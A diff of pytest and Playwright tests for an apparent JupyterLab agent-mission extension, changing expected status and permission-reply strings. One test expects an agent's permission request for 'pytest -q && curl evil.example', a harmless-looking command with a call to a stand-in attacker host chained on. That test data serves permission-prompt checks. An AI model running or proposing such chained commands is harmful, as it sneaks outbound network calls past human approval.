@@ -45,7 +45,7 @@ def test_a_mission_shows_in_the_widget_and_sidebar_and_stops_from_the_widget(
 
     napper.get_by_role("button", name="Stop napper").click()
     expect(napper).to_have_attribute("data-status", "killed", timeout=TIMEOUT_MS)
-    expect(napper.locator('td[data-col="status"]')).to_contain_text("killed")
+    expect(napper.locator('td[data-col="status"]')).to_contain_text("stopped")
     expect(in_sidebar).to_have_attribute("data-status", "killed", timeout=TIMEOUT_MS)
     expect(napper.get_by_role("button", name="Stop napper")).to_be_disabled()
     wait_until(lambda: not alive(pid), what="the mission's process to end")
@@ -189,7 +189,7 @@ def test_a_question_from_an_agent_is_answered_from_the_inbox(lab: JupyterProcess
     assert done["status"] == "exited"
     said = [e["data"]["text"] for e in lab.api("GET", f"events?mission={asker['id']}")["events"]
             if e["type"] == "agent-message"]
-    assert "".join(said) == "permission for pytest -q && curl evil.example: denied"
+    assert "".join(said) == "permission for pytest -q && curl evil.example: reject_once"
     assert lab.api("GET", "questions")["questions"] == []
 
 
